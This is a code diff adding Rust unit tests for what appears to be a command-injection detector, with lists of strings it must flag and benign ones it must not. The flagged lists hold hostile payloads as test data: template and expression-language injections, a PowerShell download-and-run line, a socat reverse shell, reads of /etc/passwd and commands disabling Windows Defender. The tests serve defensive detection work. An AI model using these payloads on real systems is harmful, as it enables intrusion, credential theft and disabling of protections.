@@ -742,3 +742,85 @@ fn tools_ended_by_a_separator_or_a_submitted_line() {
         assert!(!hit(v), "flagged {v:?}");
     }
 }
+
+#[test]
+fn code_statements_calls_and_exponents_are_not_commands() {
+    for v in [
+        "$(id);id",
+        "x');cat /etc/passwd",
+        "f();whoami",
+        "1;printf 'x' > /tmp/y",
+        "; w^h^o^a^m^i",
+        "&n^et user",
+        "iex(New-Object Net.WebClient).DownloadString('http://x')",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "import os from 'node:os';const os = require('node:os');copy",
+        "report.writeReport();copy",
+        "clearTimeout(t);set",
+        "int main()\n{\n  int x;\n  printf (\"x = %d\\n\", x);\n}",
+        "data = read()\nprint('Content-type: text/plain')",
+        "e^x = 1 + x + x^2/2!",
+        "c^d",
+        "re.compile(\"[A-Za-z_]\"\n    \"[A-Za-z0-9_]*\")",
+        "performance.mark(`test${n}`);",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn calls_that_run_a_command_string() {
+    for v in [
+        "system('id')",
+        "__import__('os').system('id')",
+        "require('child_process').exec('id')",
+        "Runtime.getRuntime().exec(\"ping 1.2.3.4\")",
+        "${T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd')}",
+        "{{config.__class__.__init__.__globals__['os'].popen('whoami').read()}}",
+        "eval(\"__import__('os').system('ls')\")",
+        "[System.Diagnostics.Process]::Start('calc')",
+        "passthru($_GET['c'])",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "sts = os.system(\"mycmd\" + \" myarg\")",
+        "/ab+c/.exec('abbc')",
+        "vm.runInThisContext('localVar = \"vm\";')",
+        "eval('x = 1 + 2')",
+        "Process.Start is a .NET method",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn globbed_binaries_braced_unset_variables_and_cmdlets() {
+    for v in [
+        "/usr/bin/i?",
+        ";/bin/ca* /etc/passwd",
+        "c${u}at /etc/passwd",
+        ";c${x}url http://x.example",
+        "Set-MpPreference -DisableRealtimeMonitoring $true",
+        ";Add-MpPreference -ExclusionPath C:\\",
+        "socat tcp-connect:10.0.0.1:4444 exec:/bin/sh",
+        "%0ahostname",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "/usr/local/bin",
+        "/bin/*",
+        "Hello ${user}",
+        "Start-Up Nation",
+        "Set-Top Box",
+        "--allow-fs-read=/path/to/index.js",
+        "\nhostname is the name of the machine",
+        "hostname",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
